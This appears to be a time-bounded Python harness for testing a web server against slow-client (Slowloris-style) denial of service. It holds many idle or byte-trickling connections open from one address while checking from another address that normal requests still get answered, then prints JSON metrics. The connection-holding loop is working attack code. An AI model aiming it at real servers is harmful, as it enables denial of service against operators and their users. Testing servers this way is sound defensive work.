"""Slow clients against a web server, run where the server runs (inside a box), no pytest: from
one address, `count` connections held open — half idle (connected, nothing sent), half sending
a request's headers one byte every few seconds — each reopened when the server closes it; from
another address meanwhile, one request every 100 ms that must be answered. Bounded: `seconds`
in all. Prints one JSON line: the other client's results and how long the server let the slow
connections live.

usage: slow_clients.py HOST PORT ATTACKER_ADDRESS OTHER_ADDRESS COUNT SECONDS PATH"""
import http.client
import json
import resource
import select
import socket
import sys
import threading
import time

host, port, attacker, other, count, seconds, path = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], \
    int(sys.argv[5]), float(sys.argv[6]), sys.argv[7]
resource.setrlimit(resource.RLIMIT_NOFILE, (count + 1024, count + 1024))
deadline = time.monotonic() + seconds
stop = threading.Event()
served = []  # (status or error, seconds)


def other_client():
    while not stop.is_set():
        start = time.monotonic()
        try:
            conn = http.client.HTTPConnection(host, port, timeout=3, source_address=(other, 0))
            conn.request("GET", path)
            response = conn.getresponse()
            response.read()
            conn.close()
            served.append((response.status, time.monotonic() - start))
        except OSError as e:
            served.append((type(e).__name__, time.monotonic() - start))
        stop.wait(0.1)


def connect(slow):
    s = socket.socket()
    s.settimeout(1)
    s.bind((attacker, 0))
    try:
        s.connect((host, port))
        if slow:
            s.sendall(b"GET " + path.encode() + b" HTTP/1.1\r\nHost: x\r\n")
    except OSError:
        s.close()
        return None
    s.setblocking(False)
    return s


thread = threading.Thread(target=other_client)
thread.start()
conns = {}  # socket -> (slow, opened at)
opened = refused = closed = 0
lifetimes = []
next_byte = time.monotonic()
try:
    while time.monotonic() < deadline:
        while len(conns) < count and time.monotonic() < deadline:
            slow = len(conns) % 2 == 0
            s = connect(slow)
            if s is None:
                refused += 1
                break
            conns[s] = (slow, time.monotonic())
            opened += 1
        poller = select.poll()
        by_fd = {s.fileno(): s for s in conns}
        for fd in by_fd:
            poller.register(fd, select.POLLIN)
        ready = [by_fd[fd] for fd, _ in poller.poll(200)]
        for s in ready:  # readable: closed by the server (or a 408 before closing)
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                slow, since = conns.pop(s)
                lifetimes.append(time.monotonic() - since)
                closed += 1
                s.close()
        if time.monotonic() >= next_byte:  # one more header byte on each slow connection
            next_byte = time.monotonic() + 3
            for s, (slow, _) in list(conns.items()):
                if slow:
                    try:
                        s.send(b"X")
                    except OSError:
                        pass
finally:
    stop.set()
    thread.join(10)
    for s in conns:
        s.close()
lifetimes.sort()
print(json.dumps({
    "opened": opened, "refused": refused, "closed_by_server": closed, "open_at_end": len(conns),
    "lifetime_median": lifetimes[len(lifetimes) // 2] if lifetimes else None,
    "lifetime_max": lifetimes[-1] if lifetimes else None,
    "other_requests": len(served), "other_failed": [r for r in served if r[0] != 200][:20],
    "other_failed_count": sum(r[0] != 200 for r in served), "other_worst": max((r[1] for r in served), default=None),
}))
